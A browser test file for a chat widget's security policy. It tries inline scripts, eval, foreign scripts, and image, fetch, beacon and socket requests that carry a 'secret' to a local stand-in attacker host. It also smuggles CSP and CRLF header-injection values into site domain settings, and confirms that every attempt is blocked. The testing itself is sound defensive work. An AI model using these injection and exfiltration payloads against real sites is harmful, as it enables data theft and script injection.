import { afterAll, afterEach, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { setupLink } from '../../src/features/agents/index.ts'
import { sendMessage } from '../../src/features/messages/index.ts'
import { createSite } from '../../src/features/sites/index.ts'
import { write } from '../../src/platform/db/write.ts'
import { newVisitor, password } from '../support/cast.ts'
import { type Browser, type BrowserContext, kept, openChromium, type Page, widgetOn } from '../support/chromium.ts'
import { openHouse, type TestHouse } from '../support/house.ts'
import { openShop } from '../support/shop.ts'
import { newClientId } from '../support/visitor-client.ts'

setDefaultTimeout(60_000)

let house: TestHouse
let browser: Browser
let owner: BrowserContext
let conversationId: string
/** A host of somebody else's, and what it was asked for. */
let evil: ReturnType<typeof Bun.serve>
let asked: string[] = []
let violations: string[] = []

beforeAll(async () => {
  house = await openHouse({ demo: true })
  evil = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    fetch({ url }) {
      const { pathname, search } = new URL(url)
      if (pathname === '/outer') {
        const frames = decodeURIComponent(search.slice(1)).split(' ')
        const html = `<!doctype html>${frames.map((src) => `<iframe src="${src}"></iframe>`).join('')}`
        return new Response(html, { headers: { 'content-type': 'text/html' } })
      }
      asked.push(pathname)
      const headers = {
        'content-type': url.endsWith('.js') ? 'text/javascript' : 'text/html',
        'access-control-allow-origin': '*',
      }
      return new Response(url.endsWith('.js') ? 'window.ranForeign = true' : '<p>evil</p>', { headers })
    },
  })
  browser = await openChromium(['--host-resolver-rules=MAP *.test 127.0.0.1'])
  conversationId = (
    await sendMessage(newVisitor(house.site.id), {
      clientId: newClientId(),
      body: 'hello',
      page: { url: 'https://shop.example/', title: 'Shop' },
    })
  ).conversationId
  owner = await watched()
})
afterAll(async () => {
  await browser.close()
  await evil.stop(true)
  await house.close()
})
afterEach(() => {
  violations = []
  asked = []
})

/** A browser whose every page and frame tells what its policy stopped. */
async function watched(): Promise<BrowserContext> {
  const context = await browser.newContext({ locale: 'en-GB' })
  context.setDefaultTimeout(15_000)
  await context.exposeFunction('tellViolation', (told: string) => void violations.push(told))
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
      const tell = (window as unknown as { tellViolation(told: string): void }).tellViolation
      tell(`${location.pathname}: ${effectiveDirective} ${blockedURI} ${sourceFile}`)
    })
  })
  return context
}

describe('the honest pages break no rule of their own', () => {
  test('from the set-up link over the inbox and a conversation to the account', async () => {
    const page = await owner.newPage()
    await page.goto((await setupLink(house.url)) ?? '')
    await page.getByLabel('Your name').fill('Olga')
    await page.getByLabel('E-mail').fill('olga@shop.test')
    await page.getByLabel('Password').fill(password)
    await page.getByLabel(/shop/i).fill('Water')
    await page.getByRole('button').last().click()
    await page.waitForURL(/settings\/sites/)
    await page.getByRole('button', { name: 'Disable chat' }).first().click()
    await page.getByRole('button', { name: 'Enable chat' }).first().click()
    for (const path of [
      '/inbox',
      '/inbox?folder=active',
      '/inbox?folder=finished',
      '/account',
      '/c/nothing',
      '/nothing',
    ]) {
      await page.goto(house.url + path)
      await page.waitForTimeout(50)
    }
    await page.goto(`${house.url}/c/${conversationId}`)
    await page.locator('#body').fill('We are here')
    await page.locator('#body').press('Enter')
    await page.locator('#messages li[data-from="agent"][data-seq]').waitFor()
    await page.getByRole('button', { name: 'Finish' }).click()
    await page.locator('#messages [data-event="finished"]').waitFor()
    await page.waitForTimeout(100)
    expect(violations).toEqual([])
    await page.close()
  })

  test('the demo shop with its widget, open and written in', async () => {
    const context = await watched()
    const page = await context.newPage()
    await page.goto(`${house.url}/demo`)
    const widget = widgetOn(page)
    await widget.open()
    await widget.write('Do you deliver? https://shop.example/water')
    await widget.own.getByText(kept).waitFor()
    await page.waitForTimeout(100)
    expect(violations).toEqual([])
    await context.close()
  })

  test('a shop whose own policy is as strict as can be, but for our host', async () => {
    const policy = `default-src 'none'; script-src ${house.url}; frame-src ${house.url}; require-trusted-types-for 'script'`
    const shop = openShop(house.url, house.site.id, { 'content-security-policy': policy })
    const context = await watched()
    const page = await context.newPage()
    await page.goto(`http://localhost:${shop.port}/`)
    const widget = widgetOn(page)
    await widget.open()
    await widget.write('Hello')
    await widget.own.getByText(kept).waitFor()
    expect(violations).toEqual([])
    await context.close()
    await shop.stop()
  })
})

type Attempt = [name: string, directive: string | RegExp, tries: (page: Page, evil: string) => Promise<unknown>]

const attempts: Attempt[] = [
  [
    'an inline script',
    'script-src-elem',
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script')
        Object.assign(script, { text: 'window.ran = true' })
        document.body.append(script)
      }),
  ],
  [
    'an inline handler',
    'script-src-attr',
    (page) =>
      page.evaluate(() => {
        const button = document.createElement('button')
        button.setAttribute('onclick', 'window.ran = true')
        document.body.append(button)
        button.click()
      }),
  ],
  [
    'a javascript: link',
    'script-src-elem',
    (page) =>
      page.evaluate(() => {
        const link = document.createElement('a')
        link.href = 'javascript:window.ran=true'
        document.body.append(link)
        link.click()
      }),
  ],
  [
    'eval',
    'script-src',
    (page) =>
      page.evaluate(() => {
        setTimeout(() => {
          try {
            Reflect.construct(Function, ['window.ran = true'])()
          } catch {}
        })
      }),
  ],
  [
    'a script from elsewhere',
    'script-src-elem',
    (page, from) =>
      page.evaluate((src: string) => {
        const script = document.createElement('script')
        Object.assign(script, { src })
        document.body.append(script)
      }, `${from}/x.js`),
  ],
  [
    'a style of one’s own',
    'style-src-elem',
    (page) =>
      page.evaluate(() => {
        const style = document.createElement('style')
        style.textContent = '@import "/x"'
        document.body.append(style)
      }),
  ],
  [
    'a style attribute',
    'style-src-attr',
    (page) =>
      page.evaluate(() => {
        document.body.setAttribute('style', 'display:none')
      }),
  ],
  [
    'an image that carries something away',
    'img-src',
    (page, to) =>
      page.evaluate((src: string) => {
        Object.assign(new Image(), { src })
      }, `${to}/beacon?secret`),
  ],
  [
    'a request that carries something away',
    'connect-src',
    (page, to) => page.evaluate((url: string) => fetch(url).catch(() => {}), `${to}/beacon?secret`),
  ],
  [
    'a beacon',
    'connect-src',
    (page, to) => page.evaluate((url: string) => navigator.sendBeacon(url, 'secret'), `${to}/beacon`),
  ],
  [
    'a socket elsewhere',
    'connect-src',
    (page, to) =>
      page.evaluate(
        (url: string) => {
          try {
            new WebSocket(url)
          } catch {}
        },
        to.replace('http', 'ws'),
      ),
  ],
  [
    'a form that leads elsewhere',
    'form-action',
    (page, to) =>
      page.evaluate((action: string) => {
        const form = document.createElement('form')
        Object.assign(form, { action, method: 'post' })
        document.body.append(form)
        form.submit()
      }, `${to}/form`),
  ],
  [
    'another base for its addresses',
    'base-uri',
    (page, to) =>
      page.evaluate((href: string) => {
        const base = document.createElement('base')
        base.href = href
        document.head.append(base)
      }, `${to}/`),
  ],
  [
    'an object',
    'object-src',
    (page, to) =>
      page.evaluate((data: string) => {
        const object = document.createElement('object')
        object.data = data
        document.body.append(object)
      }, `${to}/object`),
  ],
  [
    'a frame',
    'frame-src',
    (page, to) =>
      page.evaluate((src: string) => {
        const frame = document.createElement('iframe')
        frame.src = src
        document.body.append(frame)
      }, `${to}/frame`),
  ],
  [
    'a worker of one’s own',
    /worker-src|script-src/,
    (page) =>
      page.evaluate(() => {
        try {
          new Worker(URL.createObjectURL(new Blob(['1'])))
        } catch {}
      }),
  ],
]

// Where trusted types are asked for they come first.
const stopped = (directive: string | RegExp) => (told: string) =>
  told.includes('require-trusted-types-for') ||
  (typeof directive === 'string' ? told.includes(`: ${directive} `) : directive.test(told))

describe.each([
  ['the console', () => `${house.url}/c/${conversationId}`],
  ['the widget’s frame', () => `${house.url}/widget/frame?site=${house.site.id}`],
  ['the demo shop', () => `${house.url}/demo`],
] as const)('in %s', (_, address) => {
  test('nothing runs, loads or leaves that the house did not put there', async () => {
    const page = await owner.newPage()
    const results: [string, boolean][] = []
    await page.goto(address())
    for (const [name, directive, tries] of attempts) {
      violations = []
      await tries(page, `http://127.0.0.1:${evil.port}`).catch(() => undefined)
      const giveUpAt = performance.now() + 15_000
      while (!violations.some(stopped(directive)) && performance.now() < giveUpAt) await page.waitForTimeout(10)
      const ran = await page.evaluate(() => 'ran' in window || 'ranForeign' in window)
      results.push([name, !ran && violations.some(stopped(directive))])
    }
    expect(results).toEqual(attempts.map(([name]) => [name, true]))
    expect(asked).toEqual([])
    await page.close()
  }, 120_000)
})

describe('in somebody’s frame', () => {
  /** Which of these addresses a page at `outer` gets to show in a frame. */
  async function framed(outer: string, inner: string[]): Promise<string[]> {
    const page = await owner.newPage()
    await page.goto(`http://${outer}:${evil.port}/outer?${encodeURIComponent(inner.join(' '))}`)
    const frames = page.frames().slice(1)
    await Promise.all(frames.map((frame) => frame.waitForLoadState()))
    const shown = frames.map((frame) => frame.url()).filter((url) => inner.includes(url))
    expect(frames.length).toBe(inner.length)
    await page.close()
    return shown
  }

  test('no page of the console shows itself, not even to a page on the same host', async () => {
    const paths = [
      '/sign-in',
      '/inbox',
      `/c/${conversationId}`,
      '/settings/sites',
      '/settings/chat',
      '/account',
      '/nothing',
    ]
    const inner = paths.map((path) => house.url + path)
    for (const outer of ['127.0.0.1', 'localhost']) expect(await framed(outer, inner)).toEqual([])
  })

  test('the widget shows itself on the domains of its site, and nowhere else', async () => {
    const { id } = await write((tx) => createSite(tx, { name: 'Guarded', domains: ['shop.test', '*.shop.test'] }))
    const guarded = `${house.url}/widget/frame?site=${id}`
    const open = `${house.url}/widget/frame?site=${house.site.id}`
    for (const outer of ['shop.test', 'www.shop.test']) {
      expect([outer, await framed(outer, [guarded, open])]).toEqual([outer, [guarded, open]])
    }
    for (const outer of ['evil.test', 'evilshop.test', 'shop.test.evil.test', 'localhost']) {
      expect([outer, await framed(outer, [guarded, open])]).toEqual([outer, [open]])
    }
  })

  test('a domain that would add to the policy adds nothing', async () => {
    const domains = [
      "shop.test; script-src 'unsafe-inline' *",
      '*',
      'shop.test\r\nX-Evil: 1',
      "'unsafe-inline'",
      'data:',
      'http://evil.test',
    ]
    const { id } = await write((tx) => createSite(tx, { name: 'Odd', domains }))
    const { headers } = await fetch(`${house.url}/widget/frame?site=${id}`)
    const policy = headers.get('content-security-policy') ?? ''
    expect(policy).toContain("frame-ancestors 'self';")
    expect(policy).not.toMatch(/unsafe|evil|\*/)
    expect(headers.get('x-evil')).toBeNull()
  })
})
